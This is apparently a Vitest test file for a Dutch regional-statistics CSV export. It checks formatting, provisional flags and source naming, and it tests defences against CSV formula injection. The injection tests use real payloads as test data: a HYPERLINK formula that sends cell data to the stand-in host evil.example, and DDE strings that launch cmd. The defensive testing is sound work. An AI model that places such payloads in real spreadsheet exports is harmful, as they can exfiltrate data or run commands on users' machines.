import { describe, expect, it, test } from 'vitest';
import { parse } from 'csv-parse/sync';
import { compileSeed, seedFiles } from '../../../shared/imports/seed.ts';
import { areaCsv, csvCell, CSV_HEADER } from '../../../shared/regional/csv.ts';
import { buildRegionalView } from '../../../shared/regional/view.ts';
import { testView } from './helpers.ts';

describe('areaCsv', () => {
  const view = testView();
  it('starts with a BOM and a header, separated by semicolons', () => {
    const csv = areaCsv(view, view.areas.get('GM0001')!);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(CSV_HEADER.join(';'));
    expect(lines[0]).toBe('gebiedscode;gebied;indicator;omschrijving;periode;waarde;eenheid;status;voorlopig;bron;brontabel;peildatum;cijfers_bijgewerkt_op');
    for (const line of lines) expect(line.split(';').length).toBeGreaterThanOrEqual(CSV_HEADER.length);
  });
  it('uses a decimal comma, no thousands separator, and says provisional', () => {
    const csv = areaCsv(view, view.areas.get('GM0001')!);
    expect(csv).toContain('GM0001;Aadorp;aandeel_jongeren_0_14;Aandeel kinderen van 0 tot 15 jaar;2022;14,3;%;waarde;ja;CBS;');
    expect(csv).toContain('GM0001;Aadorp;inwoners;Inwoners;2022;1200;personen;waarde;nee;CBS;');
  });
  it('names the source table of the row\'s year, what the period means and when the figures were compiled; never a guess', () => {
    const csv = areaCsv(view, view.areas.get('GM0001')!);
    // KWB is a series of yearly tables: the 2022 row names the 2022 table.
    expect(csv).toContain('GM0001;Aadorp;aandeel_jongeren_0_14;Aandeel kinderen van 0 tot 15 jaar;2022;14,3;%;waarde;ja;CBS;85318NED;op 1 januari;2026-01-01\r\n');
    // The table id of "Indicatoren jeugdzorg; gemeenten" is not in the file: said plainly.
    expect(csv).toMatch(/pct_jeugdhulp_in_natura;[^\r]*Indicatoren jeugdzorg; gemeenten \(het tabelnummer staat niet in het bestand/);
    expect(csv.toLowerCase()).not.toContain('waarschijnlijk');
  });
  it('gives a status word and an empty value for figures that are not numbers', () => {
    const secret = areaCsv(view, view.areas.get('GM0002')!);
    expect(secret).toMatch(/aandeel_jongeren_0_14;[^;]*;2022;;%;geheim;nee/);
    const swv = areaCsv(view, view.areas.get('PO 01-01')!);
    expect(swv).toMatch(/aandeel_jongeren_0_14;[^;]*;2022;;%;onvolledig;/);
    expect(swv).toMatch(/pct_jeugdhulp_in_natura;[^;]*;2022;;%;niet op te tellen;/);
  });
});

describe('areaCsv against CSV formula injection (OWASP)', () => {
  // Area names as an imported SWV names file may carry them (issue 10).
  const NAMES: [string, string][] = [
    ['PO 27-07', '=HYPERLINK("http://evil.example/?x="&A1,"klik")'],
    ['PO 27-09', '+cmd|\' /C calc\'!A0'],
    ['VO 27-08', '-2+3+cmd|\' /C calc\'!A0'],
    ['VO 27-10', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['PO 27-05', '\tTab=1+1'],
    ['VO 27-05', '\r=1+1'],
  ];
  const namesFile = ['swv_code;naam', ...NAMES.map(([code, name]) => `${code};"${name.replaceAll('"', '""')}"`)].join('\n');
  const compiled = compileSeed([...seedFiles(), { fileName: 'TESTDATA_swv-namen-injection.csv', bytes: Buffer.from(namesFile) }]);
  if (!compiled.ok) throw new Error(`${compiled.fileName}: ${JSON.stringify(compiled.errors.slice(0, 3))}`);
  const view = buildRegionalView(compiled.snapshot);

  /** The cells of a CSV as a spreadsheet reads them (quotes removed). */
  const cells = (csv: string) => parse(csv.slice(1), { delimiter: ';', bom: false, relax_column_count: true }) as string[][];

  for (const [code, name] of NAMES) {
    test(`the name ${JSON.stringify(name.slice(0, 12))} of ${code} is written as text, not a formula`, () => {
      const area = view.areas.get(code)!;
      expect(area.name).toBe(name);
      const rows = cells(areaCsv(view, area));
      expect(rows.length).toBeGreaterThan(1);
      for (const row of rows.slice(1)) {
        expect(row[1]).toBe(`'${name}`);
        for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });
  }

  test('every cell of every download of the snapshot is safe, and numbers stay numbers', () => {
    let values = 0;
    for (const area of view.areas.values()) {
      for (const row of cells(areaCsv(view, area)).slice(1)) {
        for (const cell of row) {
          if (/^-?\d+(,\d+)?$/.test(cell)) continue;
          expect(cell, `${area.code}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        }
        if (row[5] !== '') {
          expect(row[5]).toMatch(/^-?\d+(,\d+)?$/);
          values++;
        }
      }
    }
    expect(values).toBeGreaterThan(1000);
  });

  test('a negative number stays a number', () => {
    expect(csvCell('-2,5')).toBe('-2,5');
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
  });
});
